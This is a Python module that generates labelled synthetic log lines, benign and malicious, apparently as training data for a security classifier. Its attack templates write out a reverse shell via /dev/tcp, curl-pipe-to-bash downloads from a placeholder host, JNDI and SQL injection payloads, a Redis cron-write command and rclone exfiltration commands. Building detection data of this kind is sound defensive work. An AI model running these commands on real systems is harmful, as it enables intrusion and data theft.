# ruff: noqa: E501
"""Application, package and service logs: lines of free text in five common wrappings, daily work and attacks alike.

Most lines of a site are of this kind and say nothing of security; a model that has not seen them takes every unfamiliar
word for an attack. The wrapping is drawn before the label, so that only the message differs.
"""
from __future__ import annotations

from .envelope import compact, iso, plain, syslog_time
from .family import Family, Written, split
from .scene import Scene
from .table import table

_MESSAGES = split(table("""
# packages
install «tech»-«word»:amd64 <none> «num:0:9».«num:0:40».«num:0:9»-«num:1:4»
«upgrade|configure|trigproc|status installed|status half-configured|status unpacked|remove|purge» lib«word»«num:1:9»:«amd64|all|arm64» «num:0:9».«num:0:40»-«num:1:4» «none|<none>»
startup «archives unpack|packages configure|packages remove»
run with --install /usr/bin/«word» «word» /usr/lib/«tech»/bin/«word» «num:10:1800» --slave /usr/share/man/man1/«word».1.gz «word».1.gz /usr/share/man/man1/«word»-«num:1:9».1.gz
run with --quiet --install /usr/share/«word»/«word» «word» /etc/«word»/default «num:10:100»
link group «word» updated to point to /usr/bin/«word»
Unattended upgrades result: All upgrades installed: lib«word»«num:1:9» «tech»-common
Install: lib«word»«num:1:9»:amd64 («num:0:9».«num:0:40», automatic), «tech»:amd64 («num:0:9».«num:0:40»)
Commandline: apt-get «install -y «tech»-«word»|upgrade -y|update|autoremove|dist-upgrade»
Updated: «word»-«num:0:9».«num:0:20».«num:1:40»-«num:1:9».el9.x86_64
Collecting «word»==«num:0:9».«num:0:40».«num:0:9»; Downloading «word»-«num:0:9».«num:0:40».whl («num:1:9000» kB)
# services
«Started|Stopped|Starting|Stopping|Reloaded» «Word» «Service|Daemon|Manager|Timer».
«tech».service: «Succeeded|Deactivated successfully|Consumed «num:1:90».«num:100:999»s CPU time|Scheduled restart job, restart counter is at «num:1:4»|Main process exited, code=exited, status=1/FAILURE».
Reached target «Word» «Word».
Listening on «tech» socket on port «num:1024:65000».
Server is ready to accept connections on «ip2»:«num:1024:65000»
worker «num:1:64» «started|stopped|idle for «num:1:900» s|restarted after «num:1:9000» requests»
Reloading configuration from /etc/«tech»/«word».conf
health check of «linux2» «passed|passed in «num:1:900» ms|failed, retrying in «num:1:60» s»
Connection to «linux2»:«num:1024:65000» «established|lost|timed out after «num:1:60» s, retrying|refused, retrying»
Certificate of «sitedomain» renewed, valid until «date»
# kernel
usb «num:1:4»-«num:1:9»: new high-speed USB device number «num:1:30» using xhci_hcd
eth«num:0:3»: Link is «Up - 1Gbps/Full|Down»
EXT4-fs (sda«num:1:9»): mounted filesystem with ordered data mode
TCP: request_sock_TCP: Possible SYN flooding on port «num:80:9000». Sending cookies.
CPU«num:0:63»: Core temperature «above threshold, cpu clock throttled|/speed normal» (total events = «num:1:900»)
Out of memory: Killed process «num:100:99999» («tech») total-vm:«num:100000:9999999»kB
perf: interrupt took too long («num:2500:9000» > «num:2500:9000»), lowering kernel.perf_event_max_sample_rate to «num:10000:90000»
audit: backlog limit exceeded
nf_conntrack: table full, dropping packet
# databases
checkpoint complete: wrote «num:1:90000» buffers («num:0:90».«num:0:9»%); write=«num:0:90».«num:100:999» s
duration: «num:1:90000».«num:100:999» ms  statement: «SELECT|UPDATE|INSERT INTO|DELETE FROM» «word»s «WHERE id = $1|SET status = $2|(id, name) VALUES ($1, $2)|ORDER BY created DESC LIMIT «num:10:100»»
could not serialize access due to concurrent update
deadlock detected between transactions «num:1000:99999» and «num:1000:99999»
automatic vacuum of table "«word».public.«word»": index scans: «num:0:3»
duplicate key value violates unique constraint "«word»_pkey"
Slow query: «num:1:90» s, «num:1:900000» rows examined
replication lag of «linux2» is «num:0:900» s
# batch
Job «word»-«word» «finished in «num:1:9000» ms|started by scheduler|skipped, nothing to do|failed: input file «file» is missing|queued at position «num:1:90»»
Backup of «word» finished: «num:1:900» files, «num:1:9000» MB, «num:0:9» errors
Processed «num:1:90000» «word» records in «num:1:900» s, «num:0:90» rejected
Rotated log «word».log, kept «num:3:30» files
Imported «file» («num:1:900000» rows) from partner «brand»
Sent report «file» to «dept»
Retention: deleted «num:1:9000» documents older than «num:7:365» days
# requests
User «user» «logged in|logged out|changed the language|opened «file»|updated the profile|exported «num:1:90» rows of the «word» report|uploaded «file»»
«GET|POST|PUT» /api/v«num:1:3»/«word»s/«num:1:99999» «200|201|204|304|404|409» in «num:1:900» ms
NullPointerException at «sitedomain».«word».«Word»Service.«word»(«Word»Service.java:«num:10:900»)
Request «guid» timed out after «num:1:60» s waiting for «tech»
Cache «word»: «num:1:99» % hits, «num:1:9000» evictions
Retrying message «num:1:99999» of queue «word» (attempt «num:1:5»)
Rate limit of «user» reached: «num:60:900» requests a minute
Validation failed: field «word» must not be «empty|longer than «num:10:255» characters|negative»
Password of «user» expires in «num:1:14» days
Session of «user» expired after «num:10:90» minutes
Deprecated option «word» in /etc/«tech»/«word».yaml, use «word» instead
# machines
Temperature of node «num:1:900» is «num:20:70» C
ciod: generated «num:1:900» core files for program /home/«user»/«word»
R«num:0:63»-M«num:0:1»-N«num:0:15» RAS KERNEL INFO instruction cache parity error corrected
PacketResponder «num:0:3» for block blk_«num:1000000:999999999» terminating
Received block blk_«num:1000000:999999999» of size «num:1000:67108864» from «ip2»
Task attempt_«num:1000:9999»_«num:0:9»_m_«num:0:999» is done and is in the process of committing
Session 0x«hex:14» for server «ip2»:2181, closing socket connection and attempting reconnect
com.apple.«word».«word» disabled from background refresh
CBS Loaded Servicing Stack v«num:6:10».«num:0:9».«num:1000:19000».«num:1:900»
# T1496 miner
Install: xmrig:amd64 («num:5:6».«num:0:30».0)
Started «xmrig|kdevtmpfsi|kinsing|minerd|cpuminer» «Service|Daemon».
Connection to stratum+tcp://«pool|xmr|gulf».«brand».«com|pro»:«3333|5555|14444» established
CPU usage of /tmp/«.X11-unix/x|kdevtmpfsi|.«letters:6»» is «num:95:99» % since «num:1:90» hours
# T1190 deserialisation
ClassNotFoundException: «ysoserial.payloads.util.Gadgets|org.apache.commons.collections.functors.InvokerTransformer» while reading object from «pub»
Error looking up JNDI resource [ldap://«pub»:«port»/«letters:6»]
Invalid header value: «${jndi:ldap://«pub»:«port»/a}|${jndi:«rmi|dns»://«brand».«xyz|top»/x}|%{(#_memberAccess['allowStaticMethodAccess']=true)}»
java.io.IOException: Cannot run program "«/bin/sh|cmd.exe|bash»" (in directory "/opt/«tech»"): error=2, started from «Word»Servlet
syntax error at or near "«UNION SELECT|' OR 1=1|; DROP TABLE|WAITFOR DELAY»" in statement: SELECT * FROM «word»s WHERE name = '«word»' «UNION SELECT username,password FROM users--|OR '1'='1'--|; DROP TABLE users--»
template error: unexpected token in {{«7*7|config.items()|''.__class__.__mro__»}}
# T1505.003 web shell
User «user» uploaded «shell|cmd|c99|wso|up|x».«php|jsp|aspx|phtml|php5» to /var/www/uploads
New file /var/www/html/«images|uploads|wp-content»/«shell|cmd|«letters:5»».php is executable by www-data, contains eval(base64_decode(
httpd worker spawned «/bin/sh -c id|bash -c whoami|/bin/sh -c uname -a|perl -e use Socket»
# T1136 hidden account
new user: name=«support|sysadm|backdoor|«letters:5»», UID=0, GID=0, home=/root, shell=/bin/bash
add '«user»' to group 'sudo' by process /tmp/«letters:5»
Administrator account «letters:6»$ created by «www-data|tomcat|apache»
# T1547.006 rootkit
«letters:6»: loading out-of-tree module taints kernel, module verification failed: signature and/or required key missing, from /tmp/«letters:5».ko
module «diamorphine|reptile|«letters:6»» hides its entry from /proc/modules
/etc/ld.so.preload changed to /usr/local/lib/lib«letters:5».so
# T1562 defences off
SELinux is «disabled|set to permissive» by uid 0 from /tmp/«letters:5».sh
«auditd|rsyslogd|falcon-sensor|mdatp|ossec|wazuh-agent» was «stopped|killed|masked|removed» by «user» from a remote session
Stopped and disabled Security Auditing Service; /var/log/audit removed
iptables -F executed: all firewall rules flushed by uid «num:1000:1010»
Real-time protection was turned off; exclusion C:\\Users\\Public added
# T1486 ransom
«num:100:9000» files renamed to *.«locked|encrypted|«letters:5»» in «num:1:20» s by process «letters:6».exe
Created README_«TO_DECRYPT|RESTORE_FILES|UNLOCK».txt in «num:10:900» folders
Deleted all shadow copies and backup catalog before «num:100:9000» file writes
# T1003 credentials
Process «rundll32.exe|procdump64.exe|«letters:6».exe» read memory of lsass.exe
/etc/shadow opened for reading by «curl|nc|python3|base64» (uid 33)
«num:200:9000» secrets listed by «user» in «num:1:9» s from «pub»
Malware HackTool:Win32/«Mimikatz|LaZagne|Rubeus» found in C:\\Users\\Public\\«letters:4».exe
Detected Trojan «Cobalt Strike beacon|Meterpreter|Emotet|Qakbot» in memory of «svchost|explorer|«letters:5»».exe
# T1110 guessing
«num:200:90000» failed logins for «num:2:900» users from «pub» in «num:1:10» minutes
Account «user» locked after «num:20:900» attempts from «pub»
Password spraying suspected: one password tried for «num:40:900» accounts from «pub»
# T1059 shells
cron: (root) CMD («curl|wget -qO-» http://«pub»/«letters:4».sh | «bash|sh»)
Job «word» executed by «user»: bash -i >& /dev/tcp/«pub»/«port» 0>&1
container «word» started with --privileged and host mount / by anonymous
python3 -c import pty;pty.spawn("/bin/bash") started by «www-data|postgres|redis»
COPY «word» FROM PROGRAM '«id|curl http://«pub»/x|bash -c whoami»'
CONFIG SET dir /var/spool/cron; SET x "* * * * * curl «pub»/«letters:3».sh|sh"
# T1041 exfiltration
«num:10:900» GB sent to «pub»:«port» by «rclone|curl|mega-cmd|«letters:6»» in «num:1:9» h
User «user» exported all «num:100000:9000000» customer records to «pub»
rclone copy /data remote:«letters:6» --transfers «num:8:64» started by «user»
"""))

_PROGRAMS = ("dpkg", "systemd", "kernel", "postgres", "cron", "app", "java", "nginx", "redis", "docker", "agent", "scheduler")
_LEVELS = ("INFO", "INFO", "INFO", "INFO", "WARN", "ERROR", "DEBUG", "NOTICE")


def write(scene: Scene, attack: bool) -> Written:
    """One line; the wrapping comes first."""
    sourcetype, wrap = scene.weighted(_WRAPPINGS)
    level, program = scene.pick(_LEVELS), scene.pick(_PROGRAMS)
    scenario, row = _MESSAGES.draw(scene, attack)
    return Written(wrap(scene, level, program, scene.fill(row)), sourcetype, scene.linux_host, scenario)


def _log4j(scene: Scene, level: str, program: str, message: str) -> str:
    return f"{plain(scene.time, 3).replace('.', ',')} {level:<5} [{program}-{scene.number(1, 40)}] {scene.site.domain}.{scene.word()}.{scene.word().title()}: {message}"


def _syslog(scene: Scene, level: str, program: str, message: str) -> str:
    return f"{syslog_time(scene.time)} {scene.linux_host} {program}[{scene.number(100, 99999)}]: {message}"


def _bare(scene: Scene, level: str, program: str, message: str) -> str:
    return f"{plain(scene.time)} {message}"


def _json(scene: Scene, level: str, program: str, message: str) -> str:
    return compact({"timestamp": iso(scene.time, 3), "level": level.lower(), "logger": program, "message": message, "pid": scene.number(100, 99999)})


def _pairs(scene: Scene, level: str, program: str, message: str) -> str:
    quoted = message.replace('"', "'")
    return f'time={iso(scene.time)} level={level.lower()} app={program} msg="{quoted}"'


_WRAPPINGS = ((("app:log4j", _log4j), 3.0), (("syslog", _syslog), 3.0), (("app:text", _bare), 3.0), (("app:json", _json), 1.5), (("app:kv", _pairs), 1.5))
FAMILY = Family("applications", "syslog", 0.12, write, 0.35)
